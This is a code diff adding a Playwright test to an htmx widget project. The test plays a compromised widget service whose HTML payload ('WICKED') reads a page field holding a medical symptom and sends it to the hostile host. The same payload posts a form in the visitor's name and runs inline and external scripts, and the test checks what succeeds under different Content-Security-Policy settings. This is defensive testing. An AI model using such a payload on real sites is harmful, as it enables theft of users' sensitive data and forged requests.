@@ -19,6 +19,7 @@ from . import partner
 from .conftest import Open, Serve
 from .partner import check_that_nothing_was_told
 from .running import Demo, Site, Wsgi, htmx_folder
+from .running import pages as partner_pages
 from .watching import widgets_arrive
 
 APP = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title><link rel="icon" href="data:,">{head}
@@ -143,3 +144,40 @@ def test_the_keys_that_are_left_are_all_needed_and_enough(visit: Open, demo: Dem
         else:
             page.goto(address)
             widgets_arrive(page, ["faq"], "en")
+
+
+# A text of somebody who has taken over the service: it reads a field, sends a form to the partner's own site, and has scripts and a handler in it.
+WICKED = """<article class="cellfacts">
+<p hx-get="{root}read" hx-trigger="load" hx-include="[name=symptom]" hx-request='{{"noHeaders":true}}' hx-config='{{"headers":[]}}'></p>
+<p hx-post="/theirs" hx-trigger="load"></p><b id="handler" hx-on:click="document.body.dataset.handler = 'ran'">b</b>
+<script>document.body.dataset.inline = 'ran'</script><script src="{root}wicked.js"></script></article>"""
+
+
+@pytest.mark.parametrize("policy", ["", "script-src 'self'"], ids=["no policy", "scripts of its own server alone"])
+@pytest.mark.parametrize("with_own_htmx", [False, True], ids=["strict head", "site with htmx"])
+@pytest.mark.parametrize("version", VERSIONS)
+def test_who_took_over_our_service_could_do_what_the_security_page_says(
+    visit: Open, serve: Serve, version: str, with_own_htmx: bool, policy: str
+) -> None:
+    files: dict[str, str] = {"/v1/read": "", "/v1/widget.css": "", "/v1/wicked.js": "document.body.dataset.loaded = 'ran'"}
+    wicked = serve(partner_pages(files))
+    root = f"{wicked.address}v1/"
+    files["/v1/en/faq.html"] = WICKED.format(root=root)
+    html = partner.page(
+        root,
+        '<input name="symptom" value="melanoma">',
+        partner.placeholder("faq", ENGLISH, root),
+        head=f'<meta http-equiv="Content-Security-Policy" content="{policy}">',
+        with_own_htmx=with_own_htmx,
+    )
+    site = serve(partner.with_htmx({"/": html, "/theirs": ""}, version))
+    page = visit().page
+    with page.expect_response("**/theirs"), page.expect_response("**/v1/read?*"):
+        page.goto(site.address)
+    page.click("#handler")
+    page.wait_for_load_state("networkidle")
+    assert "/v1/read?symptom=melanoma" in [request.path for request in wicked.received], "a field was read"
+    assert ("POST", "/theirs") in [(request.method, request.path) for request in site.received], "in the reader's name"
+    runs = not policy and (with_own_htmx or version >= "4")
+    ran = page.evaluate("['inline', 'loaded', 'handler'].filter(name => document.body.dataset[name])")
+    assert ran == (["inline", "loaded", "handler"] if runs else [])
